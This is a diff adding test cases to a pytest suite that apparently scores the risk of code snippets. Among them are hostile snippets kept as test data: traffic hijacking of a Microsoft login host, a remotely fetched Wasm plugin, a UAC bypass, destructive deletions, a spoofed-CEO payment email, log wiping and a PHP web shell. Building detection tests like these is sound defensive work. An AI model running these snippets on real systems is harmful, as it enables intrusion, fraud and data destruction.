@@ -13561,6 +13561,185 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'open("/var/www/html/up.php", "w").write("<?php system($_GET[1]); ?>")\n',
             C,
         ),
+        # Round 76 (holdout508-519): service meshes, typed keystrokes, UAC bypass, OIDC federation, BEC mail, TPM
+        (
+            'from kubernetes import client, config\n'
+            'config.load_kube_config()\n'
+            'se = {"kind": "ServiceEntry", "spec": {"hosts": ["login.microsoftonline.com"], "resolution": "ST'
+            'ATIC", "endpoints": [{"address": "203.0.113.66"}]}}\n'
+            'client.CustomObjectsApi().create_namespaced_custom_object("networking.istio.io", "v1", "istio-sy'
+            'stem", "serviceentries", se)\n',
+            H,
+        ),
+        (
+            'from kubernetes import client\n'
+            'se = {"kind": "ServiceEntry", "spec": {"hosts": ["api.partner.example"], "resolution": "DNS"}}\n'
+            'client.CustomObjectsApi().create_namespaced_custom_object("networking.istio.io", "v1", "shop", "'
+            'serviceentries", se)\n',
+            S,
+        ),
+        (
+            'import json, subprocess\n'
+            'ef = {"kind": "EnvoyFilter", "spec": {"configPatches": [{"match": {"listener": {"filterChain": {'
+            '"filter": {"subFilter": {"name": "envoy.filters.http.ext_authz"}}}}}, "patch": {"operation": "RE'
+            'MOVE"}}]}}\n'
+            'subprocess.run(["kubectl", "apply", "-f", "-"], input=json.dumps(ef), text=True)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'out = subprocess.check_output(["kubectl", "get", "pods", "-A", "-o", "name"], text=True)\n'
+            'for p in out.split():\n'
+            '    subprocess.Popen(["kubectl", "exec", p, "-c", "istio-proxy", "--", "pilot-agent", "request",'
+            ' "POST", "quitquitquit"])\n',
+            H,
+        ),
+        (
+            'from kubernetes import client\n'
+            'plugin = {"kind": "WasmPlugin", "spec": {"url": "http://198.51.100.77/f.wasm"}}\n'
+            'client.CustomObjectsApi().create_namespaced_custom_object("extensions.istio.io", "v1alpha1", "is'
+            'tio-system", "wasmplugins", plugin)\n',
+            H,
+        ),
+        (
+            'import pyautogui\n'
+            'pyautogui.hotkey("ctrl", "alt", "t")\n'
+            'pyautogui.write("rm -rf ~/Documents ~/.ssh")\n'
+            'pyautogui.press("enter")\n',
+            H,
+        ),
+        (
+            'import pyautogui\n'
+            'pyautogui.write("Quarterly report attached, thanks")\n',
+            S,
+        ),
+        (
+            'import winreg, subprocess\n'
+            'k = r"Software\\Classes\\ms-settings\\Shell\\Open\\command"\n'
+            'h = winreg.CreateKey(winreg.HKEY_CURRENT_USER, k)\n'
+            'winreg.SetValueEx(h, "DelegateExecute", 0, winreg.REG_SZ, "")\n'
+            'subprocess.Popen("fodhelper.exe", shell=True)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'while True:\n'
+            '    subprocess.Popen(["notepad.exe"])\n',
+            H,
+        ),
+        (
+            'import subprocess, time\n'
+            'while True:\n'
+            '    subprocess.Popen(["backup.sh"]).wait()\n'
+            '    time.sleep(3600)\n',
+            L,
+        ),
+        (
+            'import boto3, json\n'
+            'doc = {"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Condition":'
+            ' {"StringLike": {"token.actions.githubusercontent.com:sub": "repo:*"}}}]}\n'
+            'boto3.client("iam").update_assume_role_policy(RoleName="admin", PolicyDocument=json.dumps(doc))\n',
+            H,
+        ),
+        (
+            'import boto3, json\n'
+            'doc = {"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Condition":'
+            ' {"StringLike": {"token.actions.githubusercontent.com:sub": "repo:acme/web:ref:refs/heads/main"}'
+            '}}]}\n'
+            'boto3.client("iam").update_assume_role_policy(RoleName="deploy", PolicyDocument=json.dumps(doc))\n',
+            S,
+        ),
+        (
+            'pol = {"bindings": [{"role": "roles/iam.workloadIdentityUser", "members": [f"principalSet://iam.'
+            'googleapis.com/{parent}/*"]}]}\n'
+            'iam.projects().serviceAccounts().setIamPolicy(resource=sa, body={"policy": pol}).execute()\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'shutil.rmtree(Path.home() / ".aws" / "sso" / "cache")\n',
+            M,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'shutil.rmtree(Path.home() / ".aws")\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'm = EmailMessage()\n'
+            'm["From"] = "CEO <ceo@example.com>"\n'
+            'm["Reply-To"] = "ceo.office@example-corp.net"\n'
+            'm["To"] = "ap@example.com"\n'
+            'm.set_content("Please wire today\'s payment to the new account.")\n'
+            'smtplib.SMTP("127.0.0.1").send_message(m)\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'm = EmailMessage()\n'
+            'm["From"] = "billing@example.com"\n'
+            'm["Reply-To"] = "support@example.com"\n'
+            'm.set_content("Your payment was received, thank you.")\n'
+            'smtplib.SMTP("127.0.0.1").send_message(m)\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'from flask import Flask\n'
+            'app = Flask(__name__)\n'
+            'db = sqlite3.connect("s.db", check_same_thread=False)\n'
+            '@app.post("/bounces")\n'
+            'def bounces():\n'
+            '    for r in [1, 2]:\n'
+            '        db.execute("INSERT INTO suppressed VALUES (?)", (r,))\n'
+            '    return ""\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'for h in subprocess.check_output(["tpm2_getcap", "handles-persistent"], text=True).split():\n'
+            '    subprocess.run(["tpm2_evictcontrol", "-C", "o", "-c", h])\n',
+            H,
+        ),
+        (
+            'import csv, os\n'
+            'src = "/srv/fleet/landings.csv"\n'
+            'with open(src + ".tmp", "w") as out:\n'
+            '    out.write("x")\n'
+            'os.replace(src + ".tmp", src)\n'
+            'os.utime(src, (1719792000, 1719792000))\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/srv/elog/logbook.db")\n'
+            'for (t,) in con.execute("SELECT name FROM sqlite_master WHERE type=\'table\'").fetchall():\n'
+            '    con.execute(f\'DELETE FROM "{t}"\')\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from pathlib import Path\n'
+            'uid = os.getuid()\n'
+            'g = Path(f"/sys/fs/cgroup/user.slice/user-{uid}.slice/user@{uid}.service/app.slice/etl")\n'
+            '(g / "memory.max").write_text("2G\\n")\n',
+            M,
+        ),
+        (
+            'with open("/proc/self/uid_map", "w") as f:\n'
+            '    f.write("0 1000 1")\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["systemctl", "stop", "vms-transceiver"])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
